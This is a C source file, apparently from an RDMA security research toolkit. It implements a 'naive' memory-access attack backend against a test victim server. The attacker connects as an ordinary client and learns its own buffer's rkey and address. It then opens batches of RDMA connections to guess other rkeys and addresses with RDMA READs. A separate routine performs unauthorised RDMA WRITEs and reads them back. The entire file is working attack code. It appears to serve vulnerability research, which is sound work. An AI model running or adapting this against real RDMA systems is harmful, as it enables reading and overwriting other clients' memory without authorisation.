/* SPDX-License-Identifier: MIT */
/*
 * mem-access against rdmasec-naive-victim: the attacker is just another
 * client. Each connection is one TCP exchange (plaintext line each way) and
 * one RC QP of ours connected to the server's new QP; the server's line
 * tells our own buffer's rkey and address there. A guess is one RDMA READ.
 * Our QPs are kept and recycled through RESET; only the server's side is new.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <infiniband/verbs.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#include "common/attack.h"
#include "memacc.h"

struct slot {
	struct ibv_cq *cq;
	struct ibv_qp *qp;
	struct ibv_mr *mr;
	uint8_t *buf;
	int fd;
	struct naive_line srv;
};

struct naive {
	const struct memacc_cfg *cfg;
	struct ibv_context *ctx;
	struct ibv_pd *pd;
	union ibv_gid gid;
	struct slot s[MEMACC_BATCH_MAX];
};

static void naive_close(void *state)
{
	struct naive *a = state;
	if (!a)
		return;
	for (size_t i = 0; i < MEMACC_BATCH_MAX; i++) {
		struct slot *s = &a->s[i];
		if (s->fd >= 0)
			close(s->fd);
		if (s->qp)
			ibv_destroy_qp(s->qp);
		if (s->mr)
			ibv_dereg_mr(s->mr);
		if (s->cq)
			ibv_destroy_cq(s->cq);
		free(s->buf);
	}
	if (a->pd)
		ibv_dealloc_pd(a->pd);
	if (a->ctx)
		ibv_close_device(a->ctx);
	free(a);
}

static int slot_init(struct naive *a, struct slot *s)
{
	struct ibv_qp_init_attr qa = { .qp_type = IBV_QPT_RC,
				       .cap = { .max_send_wr = 4, .max_recv_wr = 1, .max_send_sge = 1,
						.max_recv_sge = 1 } };
	s->buf = calloc(1, MEMACC_READ_MAX);
	if (!s->buf || !(s->cq = ibv_create_cq(a->ctx, 8, NULL, NULL, 0)))
		return -1;
	qa.send_cq = qa.recv_cq = s->cq;
	s->mr = ibv_reg_mr(a->pd, s->buf, MEMACC_READ_MAX, IBV_ACCESS_LOCAL_WRITE);
	if (!s->mr || !(s->qp = ibv_create_qp(a->pd, &qa)))
		return -1;
	return 0;
}

static int naive_open(const struct memacc_cfg *cfg, void **state)
{
	struct naive *a = calloc(1, sizeof(*a));
	if (!a)
		return -1;
	for (size_t i = 0; i < MEMACC_BATCH_MAX; i++)
		a->s[i].fd = -1;
	a->cfg = cfg;
	if (!(a->ctx = open_device(cfg->device)))
		goto err;
	if (ibv_query_gid(a->ctx, 1, cfg->gid_index, &a->gid) || !(a->pd = ibv_alloc_pd(a->ctx)))
		goto verbs;
	for (size_t i = 0; i < MEMACC_BATCH_MAX; i++)
		if (slot_init(a, &a->s[i]))
			goto verbs;
	*state = a;
	return 0;
verbs:
	fprintf(stderr, "%s mem-access: verbs set-up failed: %s\n", PROG, strerror(errno));
err:
	naive_close(a);
	return -1;
}

/* TCP to the victim and our half of the exchange; the server answers after reading it. */
static int slot_dial(struct naive *a, struct slot *s)
{
	const struct memacc_cfg *cfg = a->cfg;
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(cfg->port) };
	struct sockaddr_in from = { .sin_family = AF_INET };
	struct timeval tv = { .tv_sec = cfg->timeout_ms / 1000, .tv_usec = (cfg->timeout_ms % 1000) * 1000 };
	struct naive_line me = { .qpn = s->qp->qp_num, .psn = 0, .rkey = 0, .addr = 0, .len = 0 };
	char line[256];
	size_t n;

	memcpy(me.gid, a->gid.raw, sizeof(me.gid));
	if (inet_pton(AF_INET, cfg->dst, &to.sin_addr) != 1)
		return -1;
	s->fd = socket(AF_INET, SOCK_STREAM, 0);
	if (s->fd < 0 || setsockopt(s->fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv)))
		return -1;
	if (cfg->source && (inet_pton(AF_INET, cfg->source, &from.sin_addr) != 1 ||
			    bind(s->fd, (struct sockaddr *)&from, sizeof(from)))) {
		fprintf(stderr, "%s mem-access: cannot bind to %s: %s\n", PROG, cfg->source, strerror(errno));
		return -1;
	}
	if (connect(s->fd, (struct sockaddr *)&to, sizeof(to)))
		return -1;
	n = naive_line_format(&me, line, sizeof(line));
	return n && write(s->fd, line, n) == (ssize_t)n ? 0 : -1;
}

/* The server's line, read one byte at a time up to its newline (it sends nothing after it). */
static int slot_read_line(struct slot *s)
{
	char line[256];
	const char *why;
	size_t got = 0;

	while (got < sizeof(line)) {
		ssize_t r = read(s->fd, line + got, 1);
		if (r <= 0)
			return -1;
		if (line[got] == '\n')
			break;
		got++;
	}
	if (got == sizeof(line) || !naive_line_parse(line, got, &s->srv, &why)) {
		fprintf(stderr, "%s mem-access: the victim's exchange line is malformed\n", PROG);
		return -1;
	}
	return 0;
}

static int slot_rts(struct naive *a, struct slot *s)
{
	struct ibv_qp_attr r = { .qp_state = IBV_QPS_RESET };
	struct ibv_qp_attr i = { .qp_state = IBV_QPS_INIT, .port_num = 1 };
	struct ibv_qp_attr t = { .qp_state = IBV_QPS_RTR, .path_mtu = IBV_MTU_1024, .dest_qp_num = s->srv.qpn,
				 .rq_psn = s->srv.psn, .max_dest_rd_atomic = 1, .min_rnr_timer = 12,
				 .ah_attr = { .is_global = 1, .port_num = 1,
					      .grh = { .sgid_index = (uint8_t)a->cfg->gid_index, .hop_limit = 64 } } };
	/* timeout 12 (about 17 ms): the server's QP may reach RTR a moment after its line. */
	struct ibv_qp_attr x = { .qp_state = IBV_QPS_RTS, .timeout = 12, .retry_cnt = 6, .rnr_retry = 0,
				 .sq_psn = 0, .max_rd_atomic = 1 };

	memcpy(t.ah_attr.grh.dgid.raw, s->srv.gid, 16);
	if (ibv_modify_qp(s->qp, &r, IBV_QP_STATE) ||
	    ibv_modify_qp(s->qp, &i, IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT | IBV_QP_ACCESS_FLAGS) ||
	    ibv_modify_qp(s->qp, &t, IBV_QP_STATE | IBV_QP_AV | IBV_QP_PATH_MTU | IBV_QP_DEST_QPN |
					     IBV_QP_RQ_PSN | IBV_QP_MAX_DEST_RD_ATOMIC | IBV_QP_MIN_RNR_TIMER) ||
	    ibv_modify_qp(s->qp, &x, IBV_QP_STATE | IBV_QP_TIMEOUT | IBV_QP_RETRY_CNT | IBV_QP_RNR_RETRY |
					     IBV_QP_SQ_PSN | IBV_QP_MAX_QP_RD_ATOMIC)) {
		fprintf(stderr, "%s mem-access: cannot connect our QP: %s\n", PROG, strerror(errno));
		return -1;
	}
	return 0;
}

static void slot_hangup(struct slot *s)
{
	struct ibv_qp_attr r = { .qp_state = IBV_QPS_RESET };
	struct ibv_wc wc[8];

	if (s->fd >= 0)
		close(s->fd); /* the server drops this client and frees its QP and MR */
	s->fd = -1;
	(void)ibv_modify_qp(s->qp, &r, IBV_QP_STATE);
	while (ibv_poll_cq(s->cq, 8, wc) > 0)
		;
}

static int post_rdma(struct slot *s, enum ibv_wr_opcode op, uint32_t rkey, uint64_t addr, uint32_t len,
		     uint64_t id)
{
	struct ibv_sge sge = { .addr = (uintptr_t)s->buf, .length = len, .lkey = s->mr->lkey };
	struct ibv_send_wr wr = { .wr_id = id, .sg_list = &sge, .num_sge = 1, .opcode = op,
				  .send_flags = IBV_SEND_SIGNALED,
				  .wr.rdma = { .remote_addr = addr, .rkey = rkey } }, *bad;
	return ibv_post_send(s->qp, &wr, &bad) ? -1 : 0;
}

/* One completion of s within the timeout: 1 with *wc, 0 on timeout, -1 on a CQ failure. */
static int wait_wc(struct slot *s, double deadline, struct ibv_wc *wc)
{
	for (;;) {
		int r = ibv_poll_cq(s->cq, 1, wc);
		if (r != 0)
			return r;
		if (now_s() >= deadline)
			return 0;
		usleep(100);
	}
}

/* Open n connections, learning the server's side of each; n slots from the first. */
static size_t open_conns(struct naive *a, size_t n, char why[static 96])
{
	size_t ok = 0;
	for (size_t i = 0; i < n; i++)
		if (slot_dial(a, &a->s[i]))
			break;
		else
			ok++;
	for (size_t i = 0; i < ok; i++) {
		if (slot_read_line(&a->s[i]) || slot_rts(a, &a->s[i])) {
			snprintf(why, 96, "connection set-up failed: %s", errno ? strerror(errno) : "protocol");
			return i;
		}
	}
	if (ok < n)
		snprintf(why, 96, "connect failed: %s", strerror(errno));
	return ok;
}

static int naive_calibrate(void *state, struct memacc_own own[2])
{
	struct naive *a = state;
	char why[96] = "";
	size_t n = open_conns(a, 2, why);

	for (size_t i = 0; i < n; i++) {
		own[i].rkey = a->s[i].srv.rkey;
		own[i].addr = a->s[i].srv.addr;
		own[i].len = a->s[i].srv.len;
	}
	for (size_t i = 0; i < MEMACC_BATCH_MAX; i++)
		slot_hangup(&a->s[i]);
	if (n < 2) {
		fprintf(stderr, "%s mem-access: cannot open two connections to the victim: %s\n", PROG, why);
		return -1;
	}
	return 0;
}

static int naive_guess(void *state, struct memacc_try *t, size_t n)
{
	struct naive *a = state;
	char why[96] = "";
	size_t up = open_conns(a, n, why);
	double deadline;

	for (size_t i = 0; i < n; i++) {
		t[i].v = MEMACC_NOANSWER;
		snprintf(t[i].status, sizeof(t[i].status), "%s", i < up ? "no completion" : why);
		if (i < up && post_rdma(&a->s[i], IBV_WR_RDMA_READ, t[i].c.rkey, t[i].c.addr, a->cfg->read_len, i))
			snprintf(t[i].status, sizeof(t[i].status), "post failed");
	}
	deadline = now_s() + a->cfg->timeout_ms / 1000.0;
	for (size_t i = 0; i < up; i++) {
		struct ibv_wc wc;
		int r = wait_wc(&a->s[i], deadline, &wc);
		if (r < 0)
			return -1;
		if (r == 0)
			continue;
		snprintf(t[i].status, sizeof(t[i].status), "%s", ibv_wc_status_str(wc.status));
		if (wc.status == IBV_WC_SUCCESS) {
			t[i].v = MEMACC_HIT;
			memcpy(t[i].data, a->s[i].buf, a->cfg->read_len);
		} else if (wc.status == IBV_WC_REM_ACCESS_ERR || wc.status == IBV_WC_REM_INV_REQ_ERR) {
			t[i].v = MEMACC_MISS;
		}
	}
	for (size_t i = 0; i < n; i++)
		slot_hangup(&a->s[i]);
	return 0;
}

static int naive_write(void *state, uint32_t rkey, uint64_t addr, const uint8_t *buf, size_t len, uint8_t *back,
		       char status[static 96])
{
	struct naive *a = state;
	struct slot *s = &a->s[0];
	struct ibv_wc wc;
	int rc = -1;

	if (len > MEMACC_READ_MAX || open_conns(a, 1, status) != 1)
		goto out;
	memcpy(s->buf, buf, len);
	if (post_rdma(s, IBV_WR_RDMA_WRITE, rkey, addr, (uint32_t)len, 0))
		goto out;
	int r = wait_wc(s, now_s() + a->cfg->timeout_ms / 1000.0, &wc);
	if (r <= 0) {
		snprintf(status, 96, "no completion for the write");
		goto out;
	}
	snprintf(status, 96, "%s", ibv_wc_status_str(wc.status));
	if (wc.status != IBV_WC_SUCCESS) {
		rc = 1;
		goto out;
	}
	/* Read it back on the same QP: RC keeps the order, so this sees the write. */
	memset(s->buf, 0, len);
	if (post_rdma(s, IBV_WR_RDMA_READ, rkey, addr, (uint32_t)len, 1) ||
	    wait_wc(s, now_s() + a->cfg->timeout_ms / 1000.0, &wc) != 1 || wc.status != IBV_WC_SUCCESS)
		goto out;
	memcpy(back, s->buf, len);
	rc = 0;
out:
	slot_hangup(s);
	return rc;
}

const struct memacc_backend memacc_naive_backend = {
	.name = "naive",
	.batch_max = MEMACC_BATCH_MAX,
	.open = naive_open,
	.calibrate = naive_calibrate,
	.guess = naive_guess,
	.write = naive_write,
	.close = naive_close,
};
